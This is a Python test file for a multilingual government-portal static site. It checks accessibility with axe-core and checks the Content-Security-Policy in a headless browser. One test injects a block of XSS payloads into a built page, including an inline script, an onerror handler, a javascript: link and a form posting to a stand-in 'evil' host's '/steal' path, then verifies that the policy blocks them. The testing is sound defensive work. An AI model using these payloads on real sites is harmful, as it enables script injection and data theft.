"""The built sample network in a real browser (Debian's chromium, Playwright): axe-core and the CSP.

- axe-core (npm, pinned) finds no violation of any impact on every page type (home, list, empty list,
  article, document, directive, draft for comment, page, contact, tag, tags, portals, search and the
  network search with a query, 404) of every language of the provincial portal and of a commune, at
  1280 px and at 360 px (home pages with the sections' menu open too), and no page is wider than the phone;
- in normal use no page logs a Content-Security-Policy violation and no request leaves the
  page's origin (the search pages run Pagefind's WebAssembly under the policy);
- a script written into a built page (as if the sanitiser had been bypassed) does not run:
  inline, as an event handler, as a ``javascript:`` link, or from another origin.
"""

from __future__ import annotations

import http.server
import os
import re
import shutil
import threading
from pathlib import Path
from typing import ClassVar
from urllib.parse import urlsplit

import pytest

from portal.model.sections import CATALOG

from ..validators import AXE_JS
from .test_search_browser import browser  # noqa: F401  (the chromium fixture)

PHONE = {"width": 360, "height": 640}
WIDE = {"width": 1280, "height": 800}
SITES = {"bac-ninh": ["", "en/", "ja/", "zh/", "ko/"], "tien-du": [""]}
QUERIES = {"": "ke hoach", "en/": "investment", "ja/": "計画", "zh/": "投资", "ko/": "투자"}
SECTION_SLUGS = set(CATALOG)
#: listens for CSP violations before any of the page's own code runs (Playwright init scripts are not subject to the page's CSP)
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  e => window.__csp.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline') + ' ' + (e.sourceFile || '')));
"""


def _first(folder: Path) -> str | None:
    subs = sorted(p.name for p in folder.iterdir() if (p / "index.html").is_file() and p.name != "page") if folder.is_dir() else []
    return subs[0] if subs else None


#: the sections whose first post stands for a page type: news, a legal document, a directive (a shared copy
#: outside the provincial portal), a draft for comment
POST_TYPES = (("article", "tin-tuc"), ("document", "van-ban"), ("directive", "chi-dao-dieu-hanh"), ("draft", "du-thao"),
              ("procedure", "thu-tuc-hanh-chinh"))
#: the agency's pages: about, and the contact page (with the contact details); the interaction service's
#: static pages (plugins/interaction: a question's form, its tracking, the survey, the monthly figures)
PAGE_TYPES = (("page", "gioi-thieu"), ("contact", "lien-he"), ("ask", "hoi-dap/gui-cau-hoi"), ("lookup", "hoi-dap/tra-cuu"),
              ("survey", "hoi-dap/khao-sat"), ("stats", "hoi-dap/thong-ke"))


def pages_to_check(out: Path) -> list[tuple[str, str, str]]:
    """(site, kind, path) of the pages axe and the CSP test load: every page type of every language."""
    result = []
    for site, langs in SITES.items():
        for p in langs:
            base = out / site / p
            result += [(site, "home", f"/{p}"), (site, "list", f"/{p}tin-tuc/"),
                       (site, "search", f"/{p}tim-kiem/?q={QUERIES[p]}"), (site, "404", f"/{p}404.html"),
                       (site, "tags", f"/{p}tag/"), (site, "portals", f"/{p}cac-cong-thanh-phan/")]
            if (base / "tim-kiem-toan-tinh" / "index.html").is_file():
                result.append((site, "network search", f"/{p}tim-kiem-toan-tinh/?q={QUERIES[p]}"))
            for kind, section in POST_TYPES:
                slug = _first(base / section)
                if slug and slug not in ("loai", "co-quan", "linh-vuc", "nam", "hieu-luc", "cap"):
                    result.append((site, kind, f"/{p}{section}/{slug}/"))
            if (base / "co-cau-to-chuc").is_dir():
                result.append((site, "organisation", f"/{p}co-cau-to-chuc/"))
            for kind, slug in PAGE_TYPES:
                if (base / slug / "index.html").is_file():
                    result.append((site, kind, f"/{p}{slug}/"))
            tag = _first(base / "tag")
            if tag:
                result.append((site, "tag", f"/{p}tag/{tag}/"))
            board = base / "cham-diem"  # the monthly scoreboard (plugins/scoreboard): index, year, month, one site
            if (board / "index.html").is_file():
                result.append((site, "scoreboard", f"/{p}cham-diem/"))
                for kind, pattern in (("scoreboard year", "nam/*/index.html"), ("scoreboard month", "[0-9]*/index.html"),
                                      ("scoreboard site", "[0-9]*/*/index.html")):
                    found = sorted(board.glob(pattern))
                    if found:
                        result.append((site, kind, "/" + found[-1].parent.relative_to(out / site).as_posix() + "/"))
            paged = sorted(base.glob("*/page/1/index.html"))  # an archive page (numbered from the oldest)
            if paged:
                result.append((site, "archive list page", "/" + paged[0].parent.relative_to(out / site).as_posix() + "/"))
            empty = sorted(d.name for d in base.iterdir() if d.name in SECTION_SLUGS and not _first(d))
            if empty:
                result.append((site, "empty list", f"/{p}{empty[0]}/"))
        # the tables of documents and procedures and their filter pages, the board's audit (default language)
        result += [(site, "documents", "/van-ban/"), (site, "documents-filter", "/van-ban/hieu-luc/con-hieu-luc/"),
                   (site, "procedures", "/thu-tuc-hanh-chinh/")]
    result.append(("bac-ninh", "audit", "/kiem-tra-thong-tin-bat-buoc/"))
    return result


def _serve(output: Path, site_ids=None):
    from portal.stages.preview import make_server

    os.environ["PORTAL_SERVE_QUIET"] = "1"
    server = make_server(output, "127.0.0.1", 0, site_ids)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def served_sample(built_sample):
    out, _ = built_sample
    server = _serve(out)
    yield out, server.server_address[1]
    server.shutdown()
    server.server_close()


def _open(page, port: int, site: str, path: str) -> None:
    page.goto(f"http://{site}.localhost:{port}{path}")
    page.wait_for_load_state("load")
    if "/tim-kiem" in path:  # results shown (or "no results"): search.js and Pagefind have run
        page.wait_for_function("() => { const r = document.querySelector('[data-search]'); return r && r.dataset.state === 'done'; }",
                               timeout=20000)


def test_axe_finds_no_violation(browser, served_sample):  # noqa: F811
    """Every page type at 1280 px and at 360 px (a phone; on home pages with the sections' menu open too);
    at 360 px no page is wider than the phone."""
    out, port = served_sample
    axe = AXE_JS.read_text(encoding="utf-8") if AXE_JS.is_file() else None
    if axe is None:
        if os.environ.get("CI"):
            pytest.fail("axe-core is not installed: make test installs it (make validators)")
        pytest.skip("axe-core is not installed (make validators)")
    context = browser.new_context(bypass_csp=True, viewport=WIDE)  # axe is injected: the CSP is tested on its own below
    page = context.new_page()
    found: dict[str, list[str]] = {}
    too_wide: list[str] = []
    runs = 0

    def run(where: str) -> None:
        nonlocal runs
        result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        runs += 1
        for v in result["violations"]:
            targets = [" ".join(n["target"]) for n in v["nodes"]][:3]
            found.setdefault(v["id"], []).append(f"{where} ({v['impact']}): {targets}")

    checked = pages_to_check(out)
    for site, kind, path in checked:
        page.set_viewport_size(WIDE)
        _open(page, port, site, path)
        page.evaluate(axe)
        run(f"{site}{path} {kind} 1280px")
        page.set_viewport_size(PHONE)
        run(f"{site}{path} {kind} 360px")
        if page.evaluate("document.documentElement.scrollWidth") > PHONE["width"]:
            too_wide.append(f"{site}{path}")
        if kind == "home":
            page.click(".nav-menu > summary")
            run(f"{site}{path} {kind} 360px, menu open")
    context.close()
    kinds = {kind for _, kind, _ in checked}
    assert len(checked) >= 60 and runs >= 2 * len(checked)
    assert kinds >= {"home", "list", "empty list", "article", "document", "directive", "draft", "page", "contact", "tag",
                     "tags", "portals", "search", "network search", "404", "ask", "lookup", "survey", "stats"}, kinds
    # the scoreboard's pages are checked when the build has them (the tests' date, NOW, has no scored month yet)
    assert not too_wide, f"wider than a 360 px phone: {too_wide}"
    assert not found, "\n".join(f"{k}: {len(v)} pages, e.g. {v[:3]}" for k, v in found.items())


def test_no_csp_violation_and_no_other_origin_in_normal_use(browser, served_sample):  # noqa: F811
    out, port = served_sample
    context = browser.new_context()
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    console: list[str] = []
    requests: list[str] = []
    page.on("console", lambda m: console.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("request", lambda r: requests.append(r.url))
    violations: dict[str, list[str]] = {}
    for site, _kind, path in pages_to_check(out):
        _open(page, port, site, path)
        got = page.evaluate("window.__csp")
        if got:
            violations[f"{site}{path}"] = got
    page.goto(f"http://localhost:{port}/")  # the directory page: its inline style is allowed by its hash
    assert page.evaluate("window.__csp") == [] and page.evaluate("getComputedStyle(document.body).maxWidth") == "960px"
    context.close()
    assert not violations and not console, (violations, console[:5])
    origins = {f"{u.scheme}://{u.netloc}" for u in map(urlsplit, requests) if u.scheme in ("http", "https")}
    assert all(o.endswith(f"localhost:{port}") for o in origins), f"requests to other origins: {origins}"
    assert any(("/pagefind/" in r and r.endswith(".wasm")) or "wasm" in r for r in requests), "Pagefind's WebAssembly ran"


INJECTED = """
<script>window.__ran = (window.__ran || []).concat('inline');</script>
<img src="/khong-co.png" alt="" onerror="window.__ran = (window.__ran || []).concat('onerror')">
<a id="js-link" href="javascript:window.__ran = (window.__ran || []).concat('javascript-url')">bấm</a>
<script src="{EVIL}/x.js"></script>
<img src="{EVIL}/pixel.png" alt="">
<iframe src="{EVIL}/frame"></iframe>
<object data="{EVIL}/x.swf"></object>
<form action="{EVIL}/steal" method="post"><button id="steal">Gửi</button></form>
<base href="{EVIL}/">
<script>alert('xss')</script>
"""


class _Evil(http.server.BaseHTTPRequestHandler):
    """Another origin: records every request that reaches it."""

    hits: ClassVar[list[str]] = []

    def do_GET(self):
        _Evil.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "application/javascript")
        self.end_headers()
        self.wfile.write(b"window.__ran = (window.__ran || []).concat('remote');")

    do_POST = do_GET

    def log_message(self, *args):
        pass


def test_a_script_written_into_a_built_page_does_not_run(browser, built_sample, tmp_path: Path):  # noqa: F811
    out, _ = built_sample
    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    _Evil.hits.clear()
    injected = INJECTED.replace("{EVIL}", f"http://evil.localhost:{evil.server_address[1]}")
    shutil.copytree(out / "tien-du", tmp_path / "tien-du")
    article = next(p for p in sorted((tmp_path / "tien-du/tin-tuc").glob("*/index.html")))
    html = article.read_text(encoding="utf-8")
    article.write_text(re.sub(r'<div class="post-body"[^>]*>', lambda m: m.group(0) + injected, html, count=1), encoding="utf-8")
    # the control: the same page without its policy, where the injection does run (the test can see it)
    control = tmp_path / "tien-du" / "doi-chung" / "index.html"
    control.parent.mkdir()
    control.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", article.read_text(encoding="utf-8")),
                       encoding="utf-8")
    server = _serve(tmp_path, {"tien-du"})
    port = server.server_address[1]
    context = browser.new_context()
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        page.goto(f"http://tien-du.localhost:{port}/{article.parent.relative_to(tmp_path / 'tien-du').as_posix()}/")
        page.wait_for_load_state("load")
        page.click("#js-link")
        page.click("#steal", no_wait_after=True)
        page.wait_for_timeout(300)
        assert page.evaluate("window.__ran || []") == [], "an injected script ran"
        assert dialogs == []
        assert _Evil.hits == [], f"requests reached another origin: {_Evil.hits}"
        blocked = " ".join(page.evaluate("window.__csp"))
        for directive in ("script-src", "img-src", "frame-src", "object-src", "form-action", "base-uri"):
            assert directive in blocked, (directive, blocked)
        assert urlsplit(page.url).hostname == "tien-du.localhost"

        page.goto(f"http://tien-du.localhost:{port}/doi-chung/")
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)
        assert "inline" in page.evaluate("window.__ran || []") and _Evil.hits and dialogs, "without the policy it runs"
    finally:
        context.close()
        for srv in (server, evil):
            srv.shutdown()
            srv.server_close()
